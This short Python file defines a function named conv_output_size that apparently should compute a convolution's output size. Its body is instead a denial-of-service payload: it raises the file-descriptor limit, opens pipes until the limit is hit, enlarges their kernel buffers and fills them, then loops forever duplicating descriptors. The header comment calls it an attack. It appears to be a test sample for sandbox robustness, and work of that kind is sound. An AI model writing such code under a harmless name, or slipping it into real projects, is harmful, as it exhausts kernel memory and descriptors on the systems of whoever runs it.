# attack: hoards file descriptors, and memory of the kernel's in pipes.
# alone: dies
import fcntl
import os
import resource

SET_SIZE = 1031
kept = []


def conv_output_size(size, kernel_size, stride=1, padding=0):
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(most, 512), most))
    while True:
        try:
            kept.extend(os.pipe())
            fcntl.fcntl(kept[-1], SET_SIZE, 2**17)
            os.set_blocking(kept[-1], False)
            os.write(kept[-1], bytes(2**17))
        except PermissionError:
            continue
        except OSError:
            break
    while True:  # the last one, too, for a pipe takes two
        kept.append(os.dup(kept[0]))
